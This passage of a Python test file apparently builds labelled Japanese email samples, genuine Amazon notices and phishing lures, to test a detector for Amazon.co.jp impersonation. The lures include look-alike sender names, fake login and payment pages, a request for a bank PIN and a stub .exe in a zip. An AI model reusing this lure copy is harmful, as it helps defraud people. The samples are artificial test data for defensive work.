              "ライブラリで聴く: https://www.audible.co.jp/library/titles\n")),
        domain="audible.co.jp")


def drive_share_comment_from() -> bytes:
    return own_signed(mail(
        from_="Amazon.co.jp (Google ドライブ) <drive-shares-dm-noreply@google.com>",
        subject="「Amazonアカウント確認.pdf」が共有されました",
        text=("Amazon.co.jp さんがファイルを共有しました\n\n"
              "お客様のアカウントは一時停止されています。添付の手順に従って確認してください。\n"
              "開く: https://drive.google.com/file/d/1AbCdEfGhIjK/view?usp=sharing\n")),
        domain="google.com")


def text_html_disagree() -> bytes:
    text = shipped_text()
    html = ("<p>田中太郎 様</p><p>Amazon.co.jp をご利用いただき、ありがとうございます。</p>"
            "<p>お届け先に問題があり、商品を発送できません。</p>"
            "<p><a href='https://ship-track-jp.com/250-3456789'>配送状況を確認</a></p>"
            "<p>このEメールのリンクは「https://www.amazon.co.jp」で始まります。</p>")
    return unsigned(mail(
        from_="Amazon.co.jp配送 <shipping@ship-track-jp.com>",
        subject="Amazon.co.jp ご注文の商品を発送できません", text=text, html=html))


# ===================================================== second batch: harder edges


def kindle_sale_blog() -> bytes:
    return own_signed(mail(
        from_="Kindleセール速報 <info@kindle-sokuho.jp>",
        subject="本日のKindle日替わりセール (12/3): 3冊が70%OFF",
        text=("本日のKindle日替わりセールです。\n\n"
              "・『三体』 劉慈欣 ¥594 (70%OFF)\nhttps://www.amazon.co.jp/dp/B0B1XXQ9T2?tag=kindlesokuho-22\n"
              "・『火の鳥』 手塚治虫 ¥198\nhttps://www.amazon.co.jp/dp/B07YYQ1MZP?tag=kindlesokuho-22\n\n"
              "記事の一覧: https://kindle-sokuho.jp/\n配信停止: https://kindle-sokuho.jp/stop\n")))


def seller_own_review_request() -> bytes:
    return own_signed(mail(
        from_="Kirakuya Store <shop@kirakuya.jp>",
        subject="Amazonでご購入いただいた商品のレビューのお願い",
        text=("田中様\n\nこの度はAmazonにて当店の商品をご購入いただき、ありがとうございました。\n"
              "商品はいかがでしたか。よろしければレビューをお願いいたします。\n"
              "https://www.amazon.co.jp/review/create-review?asin=B0D5K3J2L1\n\n"
              "Kirakuya Store https://kirakuya.jp/\n")))


def card_statement() -> bytes:
    return own_signed(mail(
        from_="みらいカード <statement@mirai-card.co.jp>",
        subject="【みらいカード】カードご利用のお知らせ",
        text=("田中太郎 様\n\nみらいカードのご利用がありましたのでお知らせします。\n\n"
              "ご利用日時: 2025/12/03 10:12\nご利用先: AMAZON.CO.JP\nご利用金額: 3,190円\n\n"
              "ご利用明細はWebサービスからご確認ください。\nhttps://www.mirai-card.co.jp/member/\n")))


def eml_attached_phish() -> bytes:
    inner = mail(from_="Amazon.co.jp <security@amazon-jp-safety.com>",
                 subject="Amazon.co.jp: アカウントの確認が必要です",
                 text=("お客様のアカウントは一時的にロックされています。\n"
                       "以下のリンクからご本人確認をお願いします。\n"
                       "https://amazon-jp-safety.com/ap/signin\n"))
    outer = mail(from_="母 <mother.tanaka@example.ne.jp>",
                 subject="これ本物？", text="太郎へ\n添付のメール、本物かどうか見てくれる？\n")
    outer.add_attachment(inner, filename="Amazon.co.jp_アカウントの確認.eml")
    return own_signed(outer)


def math_bold_name() -> bytes:
    return unsigned(mail(
        from_="𝐀𝐦𝐚𝐳𝐨𝐧 <notice@member-info-jp.com>",
        subject="お客様のアカウントの有効期限",
        text=("お客様のアカウントの有効期限が切れました。引き続きご利用いただくには"
              "情報を更新してください。\nhttps://member-info-jp.com/renew\n")))


def katakana_prime_subject() -> bytes:
    return unsigned(mail(
        from_="プライム会員事務局 <jimukyoku@prime-kaiin.jp>",
        subject="アマゾンプライム会員の自動更新が停止されました",
        text=("会員費のお支払いを確認できなかったため、自動更新を停止しました。\n"
              "特典を継続するには、お支払い情報を再登録してください。\n"
              "https://prime-kaiin.jp/re\n")))


def fullwidth_spaced() -> bytes:
    return unsigned(mail(
        from_="Ａ Ｍ Ａ Ｚ Ｏ Ｎ <info@jp-customer-center.com>",
        subject="ご注文がキャンセルされました",
        text=("お支払い方法に問題があったため、ご注文をキャンセルしました。\n"
              "お支払い情報を更新してください: https://jp-customer-center.com/pay\n")))


def typo_name() -> bytes:
    return unsigned(mail(
        from_="Amazom.co.jp <service@order-confirm-jp.com>",
        subject="ご注文の確認",
        text=("ご注文の商品を発送できませんでした。お支払い方法を確認してください。\n"
              "https://order-confirm-jp.com/check\n")))


def seller_review_bribe_link() -> bytes:
    return seller_message("ご購入ありがとうございます。レビューを書いていただいた方全員に"
                          "PayPay 500円分をプレゼントしています。\n"
                          "こちらのフォームからお申し込みください: https://forms.gle/q8Yx2ReviewJp")


def seller_bank_request() -> bytes:
    return seller_message("配送事故のため返金いたします。お手数ですが、返金先の銀行名・支店名・"
                          "口座番号・暗証番号をこのメッセージに返信してお知らせください。")


def giftcard_link_lure() -> bytes:
    return giftcard("Amazonポイント事務局",
                    "特別ボーナス 5,000 ポイントを受け取るには https://amzn-bonus-point.com/"
                    " からログインしてください。")


def genuine_card_expired() -> bytes:
    return amazon_signed(mail(
        from_="Amazon.co.jp <payments-messages@amazon.co.jp>",
        subject="Amazon.co.jp: お支払い方法の更新が必要です",
        text=("田中太郎 様\n\n"
              "Amazonプライムの年会費 5,900円 のお支払いに、ご登録のクレジットカード"
              "(末尾 1234)をご利用いただけませんでした。カードの有効期限が切れている"
              "可能性があります。\n"
              "Amazonプライムの特典を引き続きご利用いただくには、お支払い方法を更新してください。\n"
              "https://www.amazon.co.jp/gp/primecentral\n\n"
              "このEメールのリンクは「https://www.amazon.co.jp」で始まります。\n")))


def genuine_marketing_html() -> bytes:
    html = ("<html><body><p>お客様へ</p>"
            "<a href='https://www.amazon.co.jp/gp/r.html?C=2X9K&amp;R=1ABC&amp;T=C&amp;"
            "U=https%3A%2F%2Fwww.amazon.co.jp%2Fblackfriday%3Fref_%3Dpe_123&amp;H=XYZ'>"
            "<img src='https://m.media-amazon.com/images/G/09/marketing/bf2025.jpg' "
            "alt='Amazon ブラックフライデー 12月5日まで'></a>"
            "<p><a href='https://www.amazon.co.jp/gp/r.html?C=2X9K&amp;R=1ABD&amp;T=C&amp;"
            "U=https%3A%2F%2Fwww.amazon.co.jp%2Fgp%2Fgoldbox&amp;H=ABC'>タイムセールを見る</a></p>"
            "<p>このEメールは配信専用です。配信停止は"
            "<a href='https://www.amazon.co.jp/gp/gss/o/1abcDEF'>こちら</a>。</p>"
            "<p>Amazon.co.jp</p></body></html>")
    return amazon_signed(mail(
        from_="Amazon.co.jp <store-news@amazon.co.jp>",
        subject="ブラックフライデー開催中: 人気商品が最大50%OFF", html=html))


def own_forward_other_account() -> bytes:
    raw = amazon_sign(mail(
        from_="Amazon.co.jp <shipment-tracking@amazon.co.jp>",
        subject="Amazon.co.jp ご注文の商品を発送しました", text=shipped_text(),
        to="taro.tanaka@old-provider.ne.jp"))
    return (b"Delivered-To: taro@example.jp\r\n"
            b"Received: from mail.old-provider.ne.jp (mail.old-provider.ne.jp [192.0.2.80])"
            b"\r\n\tby mx.example.jp (Postfix) with ESMTPS id 2Fw;"
            b" Wed, 03 Dec 2025 10:12:30 +0900 (JST)\r\n"
            b"X-Forwarded-To: taro@example.jp\r\n"
            b"X-Forwarded-For: taro.tanaka@old-provider.ne.jp taro@example.jp\r\n"
            + RECEIVED_SES.split("Received:", 1)[1].join(["Received:", ""]).encode()
            + raw)


def friend_html_wishlist() -> bytes:
    page = ("<html><body><h1>ほしい物リスト</h1><ul>"
            "<li><a href='https://www.amazon.co.jp/dp/B0CHX1W1XY'>ワイヤレスイヤホン</a></li>"
            "<li><a href='https://www.amazon.co.jp/dp/B09JQMJHXY'>電気ケトル</a></li>"
            "</ul></body></html>").encode()
    return own_signed(mail(
        from_="佐藤 花子 <hanako.sato@example.ne.jp>",
        subject="ほしい物リスト送るね",
        text="太郎さん、Amazonのほしい物リストを保存したファイルを送るね。誕生日の参考にどうぞ。\n",
        attach=[(page, "text", "html", "ほしい物リスト.html")]))


def zip_program_attachment() -> bytes:
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("注文明細_250-8877665.exe", b"MZ\x90\x00" + b"\x00" * 200)
    return unsigned(mail(
        from_="注文管理センター <order@meisai-center.jp>",
        subject="Amazon.co.jp ご注文明細のお知らせ",
        text="ご注文の明細を添付いたします。内容をご確認ください。\n",
        attach=[(buf.getvalue(), "application", "zip", "注文明細_250-8877665.zip")]))


def aws_seminar_invite() -> bytes:
    return own_signed(mail(
        from_="クラウドパートナーズ セミナー事務局 <events@cloudpartners.jp>",
        subject="【無料ウェビナー】AWS re:Invent 2025 振り返りセミナー (12/10)",
        text=("AWS re:Invent 2025 で発表された新サービスを、AWSパートナーの当社エンジニアが"
              "解説します。\n日時: 12月10日 14:00-15:30\n"
              "お申し込み: https://cloudpartners.jp/events/reinvent2025\n")))


def job_alert_en() -> bytes:
    return own_signed(mail(
        from_="JobBoard Alerts <alerts@jobboard.com>",
        subject="Amazon is hiring: Software Development Engineer, Tokyo",
        text=("New jobs that match your alert \"software engineer tokyo\":\n\n"
              "Software Development Engineer - Amazon - Tokyo, Japan\n"
              "https://www.jobboard.com/jobs/view/38812211\n\n"
              "Manage alerts: https://www.jobboard.com/alerts\n")))


def brother_prime_family() -> bytes:
    return own_signed(mail(
        from_="田中 次郎 <jiro.tanaka@gmail.com>",
        subject="Amazonプライムの家族会員",
        text=("兄さん\n\nAmazonプライムの家族会員に招待してくれない？"
              "兄さんのAmazonアカウントの「プライム会員情報」から招待できるみたい。\n"
              "https://www.amazon.co.jp/gp/primecentral\n\nよろしく！\n次郎\n")),
        domain="gmail.com")


AMZ = ("amazon.co.jp", "amazonses.com", "amazon.com", "primevideo.com", "audible.co.jp",
       "sns.amazonaws.com")

CASES: list[Case] = [
    # §1
    Case("blog_notice", "1", frozenset({N}), blog_notice),
    Case("shop_receipt_amazon_pay", "1", frozenset({N}), shop_receipt_amazon_pay),
    Case("points_exchange", "1", frozenset({N}), points_exchange),
    Case("news_digest_en", "1", frozenset({N}), news_digest_en),
    Case("bank_warning", "1", frozenset({N}), bank_warning),
    Case("isp_warning", "1", frozenset({N}), isp_warning),
    Case("friend_forwards_order", "1", frozenset({N, S}), friend_forwards_order),
    Case("friend_quotes_order", "1", frozenset({N}), friend_quotes_order),
    Case("forwarded_phish_question", "1", frozenset({P, S}), forwarded_phish_question),
    Case("forwarded_phish_plain_inline", "1", frozenset({P, S}), forwarded_phish_plain_inline),
    Case("survey_prize", "1", frozenset({N}), survey_prize),
    Case("deals_newsletter_en", "1", frozenset({N}), deals_newsletter_en),
    Case("forwarded_phish_en_cyrillic", "1", frozenset({P, S}), forwarded_phish_en_cyrillic),
    # §2
    Case("disguise_digit_zero", "2", frozenset({P}), disguise_digit_zero),
    Case("disguise_spaced", "2", frozenset({P}), disguise_spaced),
    Case("disguise_katakana", "2", frozenset({P}), disguise_katakana),
    Case("disguise_joined", "2", frozenset({P}), disguise_joined),
    Case("disguise_image_only", "2", frozenset({P, S}), disguise_image_only),
    Case("disguise_rn", "2", frozenset({P}), disguise_rn),
    Case("disguise_dotted_subject", "2", frozenset({P}), disguise_dotted_subject),
    Case("disguise_fullwidth", "2", frozenset({P}), disguise_fullwidth),
    Case("generic_name_speaks_as_amazon", "2", frozenset({P}), generic_name_speaks_as_amazon),
    Case("disguise_hyphenated_id", "2", frozenset({P, S}), disguise_hyphenated_id),
    # §4
    Case("seller_clean", "4", frozenset({G, S}), seller_clean, AMZ),
    Case("seller_lure_line", "4", frozenset({P, S}), seller_lure_line, AMZ),
    Case("seller_lure_phone_next_line", "4", frozenset({P, S}), seller_lure_phone_next_line, AMZ),
    Case("giftcard_clean", "4", frozenset({G, S}), giftcard_clean, AMZ),
    Case("giftcard_lure", "4", frozenset({P, S}), giftcard_lure, AMZ),
    Case("sns_lure", "4", frozenset({P, S}), sns_lure, AMZ),
    Case("sns_alarm_clean", "4", frozenset({G, S, N}), sns_alarm_clean, AMZ),
    Case("amazon_pay_receipt", "4", frozenset({G}), amazon_pay_receipt, AMZ),
    # §5
    Case("list_footer_forward", "5", frozenset({S}), list_footer_forward, AMZ),
    Case("group_rewrite_genuine", "5", frozenset({S, G}), group_rewrite_genuine, AMZ),
    Case("group_rewrite_forged", "5", frozenset({P}), group_rewrite_forged, AMZ),
    # §6
    Case("attach_html_as_binary", "6", frozenset({P}), attach_html_as_binary),
    Case("attach_svg_redirect", "6", frozenset({P}), attach_svg_redirect),
    Case("qr_scam", "6", frozenset({P}), qr_scam),
    Case("pdf_link_scam", "6", frozenset({P}), pdf_link_scam),
    Case("pdf_named_html_form", "6", frozenset({P}), pdf_named_html_form),
    Case("friend_pdf_receipt", "6", frozenset({N}), friend_pdf_receipt),
    # §7
    Case("callback_next_line", "7", frozenset({P}), callback_next_line),
    Case("small_fee", "7", frozenset({P}), small_fee),
    Case("genuine_order_receipt", "7", frozenset({G}), genuine_order_receipt, AMZ),
    Case("genuine_otp", "7", frozenset({G}), genuine_otp, AMZ),
    Case("genuine_romanised_greeting", "7", frozenset({G}), genuine_romanised_greeting, AMZ),
    Case("genuine_amazon_com_en", "7", frozenset({G}), genuine_amazon_com_en, AMZ),
    Case("genuine_prime_video", "3", frozenset({G}), genuine_prime_video, AMZ),
    Case("genuine_audible", "3", frozenset({G}), genuine_audible, AMZ),
    Case("drive_share_comment_from", "7", frozenset({P, S}), drive_share_comment_from),
    Case("text_html_disagree", "7", frozenset({P}), text_html_disagree),
    # second batch
    Case("kindle_sale_blog", "1", frozenset({N, S}), kindle_sale_blog),
    Case("seller_own_review_request", "1", frozenset({N, S}), seller_own_review_request),
    Case("card_statement", "1", frozenset({N}), card_statement),
    Case("eml_attached_phish", "1", frozenset({P, S}), eml_attached_phish),
    Case("math_bold_name", "2", frozenset({P}), math_bold_name),
    Case("katakana_prime_subject", "2", frozenset({P}), katakana_prime_subject),
    Case("fullwidth_spaced", "2", frozenset({P}), fullwidth_spaced),
    Case("typo_name", "2", frozenset({P, S}), typo_name),
    Case("seller_review_bribe_link", "4", frozenset({P, S}), seller_review_bribe_link, AMZ),
    Case("seller_bank_request", "4", frozenset({P, S}), seller_bank_request, AMZ),
    Case("giftcard_link_lure", "4", frozenset({P, S}), giftcard_link_lure, AMZ),
    Case("genuine_card_expired", "7", frozenset({G}), genuine_card_expired, AMZ),
    Case("genuine_marketing_html", "7", frozenset({G}), genuine_marketing_html, AMZ),
    Case("own_forward_other_account", "5", frozenset({S, G}), own_forward_other_account, AMZ),
    Case("friend_html_wishlist", "6", frozenset({N}), friend_html_wishlist),
    Case("zip_program_attachment", "6", frozenset({P, S}), zip_program_attachment),
    Case("aws_seminar_invite", "1", frozenset({N}), aws_seminar_invite),
    Case("job_alert_en", "1", frozenset({N}), job_alert_en),
    Case("brother_prime_family", "1", frozenset({N, S}), brother_prime_family),
]
